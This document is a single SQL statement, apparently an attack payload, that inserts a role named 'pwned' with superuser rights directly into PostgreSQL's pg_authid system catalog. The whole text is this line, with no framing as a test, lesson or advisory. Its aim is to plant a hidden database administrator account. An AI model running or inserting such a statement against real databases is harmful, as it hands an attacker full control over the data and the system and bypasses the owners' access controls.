INSERT INTO pg_catalog.pg_authid (rolname, rolsuper) VALUES ('pwned', true);
